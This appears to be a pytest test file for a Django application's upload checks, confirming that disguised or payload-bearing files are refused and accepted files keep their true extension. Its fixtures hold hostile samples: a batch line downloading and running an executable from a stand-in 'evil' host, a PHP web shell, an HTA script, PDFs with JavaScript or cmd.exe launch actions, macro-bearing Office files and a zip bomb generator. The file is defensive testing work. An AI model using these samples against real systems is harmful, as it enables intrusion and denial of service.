"""Uploads that could carry a payload are refused, each with its reason; what is accepted
is stored and offered under the extension of what its bytes are (#10, uploads)."""

import io
import struct
import zipfile
import zlib
from urllib.parse import unquote

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from applications.enums import AttachmentKind
from applications.models import Attachment
from applications.services import attachment_add
from applications.uploads import JPEG, PDF, offered_name, vet_upload
from reviews.ranking.services import ranking_scan_upload, table_for
from tests.factories import make_case, pdf_upload

ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 200
BATCH = b"@echo off\r\npowershell -c iwr http://evil/x.exe -o x.exe; start x.exe\r\n"
HTA = b'<html><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script></html>'
PHP = b"<?php system($_GET['c']); ?>"


def _pdf(**extra) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    for key, value in extra.items():
        writer._root_object[NameObject(f"/{key}")] = value
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _javascript_action() -> DictionaryObject:
    return DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    )


def _launch_action() -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")})


def _encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt("secret", algorithm="AES-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _office(members: dict, *, compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _zip_bomb() -> bytes:
    """A Word file holding a genuine 2 GiB part of zeros, built in a second without ever
    holding or compressing 2 GiB: one deflated block of 16 MiB of zeros, ended with a
    full flush (so each copy starts afresh), repeated 128 times. The check must refuse
    it from the table of contents, without inflating it."""
    block = bytes(16 * 1024 * 1024)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(128):
        crc = zlib.crc32(block, crc)
    bomb = (chunk * 128 + zlib.compressobj(9, zlib.DEFLATED, -15).flush(), 128 * len(block), crc, 8)
    members = [
        ("[Content_Types].xml", (b"<Types/>", 8, zlib.crc32(b"<Types/>"), 0)),
        ("word/document.xml", (b"<w:document/>", 13, zlib.crc32(b"<w:document/>"), 0)),
        ("word/media/zeros.bin", bomb),
    ]
    body, directory = b"", b""
    for name, (data, size, checksum, method) in members:
        encoded = name.encode()
        fields = (20, 0, method, 0, 0x21, checksum, len(data), size, len(encoded))
        directory += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, *fields, 0, 0, 0, 0, 0, len(body))
        directory += encoded
        body += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", *fields, 0) + encoded + data
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(members), len(members), len(directory), len(body), 0)
    return body + directory + end


def _image(fmt: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (32, 24), (200, 30, 30)).save(buffer, fmt)
    return buffer.getvalue()


def _box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I4s", 8 + len(payload), kind) + payload


def _mp4() -> bytes:
    return (
        _box(b"ftyp", b"isom\x00\x00\x02\x00isomiso2mp41") + _box(b"moov", b"\x00" * 64) + _box(b"mdat", b"\x01" * 512)
    )


@pytest.fixture
def draft(cast):
    return make_case(campaign=cast.campaign, applicant=cast.applicant_a, complete=False)


ATTACKS = {
    "pdf-header-then-batch-file": ("说明.bat", b"%PDF-1.7\n" + BATCH, "PDF 文件已损坏或无法解析"),
    "hta-named-hta": ("说明.hta", HTA, "内容不是可接受的类型"),
    "office-zip-holding-elf-as-jar": ("报告.jar", _office({"word/embeddings/tool.jar": ELF}), "内嵌可执行文件"),
    "office-zip-holding-elf-under-a-harmless-name": (
        "报告.docx",
        _office({"word/media/image1.png": ELF}),
        "内嵌可执行文件",
    ),
    "office-with-macros": ("报告.docx", _office({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "含有宏"),
    "jpeg-header-then-php": ("头像.php", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + PHP, "图片已损坏或无法解析"),
    "real-jpeg-then-php": ("头像.php", _image("JPEG") + PHP, "图片结尾之后附带了其他数据"),
    "real-png-then-php": ("头像.png", _image("PNG") + PHP, "图片结尾之后附带了其他数据"),
    "pdf-with-openaction-javascript": ("说明.pdf", _pdf(OpenAction=_javascript_action()), "JavaScript"),
    "pdf-with-launch": ("说明.pdf", _pdf(OpenAction=_launch_action()), "启动外部程序"),
    "pdf-with-names-javascript": (
        "说明.pdf",
        _pdf(Names=DictionaryObject({NameObject("/JavaScript"): DictionaryObject()})),
        "JavaScript",
    ),
    "encrypted-pdf": ("说明.pdf", _encrypted_pdf(), "已加密"),
    "broken-pdf": ("说明.pdf", _pdf()[:400], "PDF 文件已损坏或无法解析"),
    "video-header-then-script": ("宣传片.mp4", b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00" + BATCH, "视频"),
    "video-without-movie": ("宣传片.mp4", _box(b"ftyp", b"isom\x00\x00\x02\x00") + _box(b"mdat", BATCH), "影片信息"),
    "msi-installer-as-office-97": (
        "安装.doc",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "Installer".encode("utf-16-le") + b"\x00" * 600,
        "内容不是可接受的类型",
    ),
}


@pytest.mark.parametrize("attack", ATTACKS, ids=list(ATTACKS))
def test_each_upload_attack_is_refused_with_its_reason(client, cast, draft, attack):
    name, content, reason = ATTACKS[attack]
    client.force_login(cast.applicant_a)
    page = client.post(
        reverse("attachment_upload", args=[draft.pk]),
        {"file": SimpleUploadedFile(name, content), "kind": "evidence", "description": ""},
        follow=True,
    ).content.decode()
    assert reason in page
    assert not Attachment.objects.filter(case=draft).exists()


def test_a_zip_bomb_is_refused_from_its_table_of_contents(cast, draft):
    bomb = _zip_bomb()
    assert len(bomb) < 5 * 1024 * 1024
    with zipfile.ZipFile(io.BytesIO(bomb)) as archive:  # a well-formed zip, as Word would read it
        assert archive.getinfo("word/media/zeros.bin").file_size == 2**31
        with archive.open("word/media/zeros.bin") as part:
            assert part.read(1024) == bytes(1024)
    with pytest.raises(ValidationError, match="压缩炸弹"):
        attachment_add(case=draft, actor=cast.applicant_a, uploaded=SimpleUploadedFile("报告.docx", bomb))
    assert not Attachment.objects.filter(case=draft).exists()


@pytest.mark.parametrize(
    ("name", "content", "offered"),
    [
        ("说明.bat", _pdf(), "说明.pdf"),
        ("照片.php", _image("JPEG"), "照片.jpg"),
        ("照片.jpeg", _image("JPEG"), "照片.jpeg"),
        ("截图", _image("PNG"), "截图.png"),
        ("报告.hta", _office({}), "报告.docx"),
        ("宣传片.exe", _mp4(), "宣传片.mp4"),
    ],
    ids=["pdf-as-bat", "jpeg-as-php", "jpeg-alias-kept", "png-without-extension", "docx-as-hta", "mp4-as-exe"],
)
def test_what_is_accepted_is_stored_and_offered_under_its_true_extension(client, cast, draft, name, content, offered):
    attachment = attachment_add(case=draft, actor=cast.applicant_a, uploaded=SimpleUploadedFile(name, content))
    assert attachment.original_name == offered and attachment.offered_name == offered
    assert attachment.file.name.endswith(offered.rsplit(".", 1)[1].replace("jpeg", "jpg"))
    client.force_login(cast.applicant_a)
    response = client.get(reverse("attachment_download", args=[draft.pk, attachment.pk]))
    assert response.status_code == 200
    b"".join(response.streaming_content)  # closes the file
    assert offered in unquote(response["Content-Disposition"])


def test_a_record_of_before_the_rule_is_offered_under_its_true_extension(cast, draft):
    attachment = attachment_add(case=draft, actor=cast.applicant_a, uploaded=SimpleUploadedFile("说明.pdf", _pdf()))
    Attachment.objects.filter(pk=attachment.pk).update(original_name="说明.bat")
    attachment.refresh_from_db()
    assert attachment.offered_name == "说明.pdf"
    assert offered_name("说明.bat", None) == "说明.bat.bin"


def test_the_ranking_scan_is_vetted_and_offered_as_pdf(cast):
    table = table_for(campaign=cast.campaign, authority=cast.city_a)
    with pytest.raises(ValidationError, match="JavaScript"):
        ranking_scan_upload(
            table=table,
            actor=cast.reviewer_a,
            uploaded=SimpleUploadedFile("排序表.pdf", _pdf(OpenAction=_javascript_action())),
        )
    table = ranking_scan_upload(table=table, actor=cast.reviewer_a, uploaded=SimpleUploadedFile("排序表.bat", _pdf()))
    assert table.scan_name == "排序表.pdf"


def test_a_destination_open_action_is_harmless_and_accepted(cast):
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    writer._root_object[NameObject("/OpenAction")] = writer._root_object["/Pages"]["/Kids"].__class__(
        [page.indirect_reference, NameObject("/Fit")]
    )
    buffer = io.BytesIO()
    writer.write(buffer)
    assert vet_upload(SimpleUploadedFile("扫描件.pdf", buffer.getvalue()), name="扫描件.pdf") is PDF
    assert vet_upload(SimpleUploadedFile("x.jpg", _image("JPEG")), name="x.jpg") is JPEG
    assert vet_upload(pdf_upload(), name="扫描件.pdf") is PDF


def test_a_body_larger_than_any_file_is_refused_before_it_is_read(client, cast, draft):
    cast.campaign.max_file_mb = 1
    cast.campaign.save()
    client.force_login(cast.applicant_a)
    url = reverse("attachment_upload", args=[draft.pk])
    # A declared length over the limit is refused whatever follows: the body is never read.
    response = client.generic("POST", url, b"x", CONTENT_TYPE="multipart/form-data; boundary=x", CONTENT_LENGTH="9" * 9)
    assert response.status_code == 413
    assert "上传的内容过大" in response.content.decode()
    response = client.generic("POST", url, b"x", CONTENT_LENGTH="12abc")
    assert response.status_code == 400
    assert not Attachment.objects.filter(case=draft).exists()
    # Within the limit (1 MB + the slack for the form), the request reaches the view.
    ok = client.post(url, {"file": pdf_upload(), "kind": AttachmentKind.EVIDENCE, "description": ""})
    assert ok.status_code == 302 and Attachment.objects.filter(case=draft).count() == 1
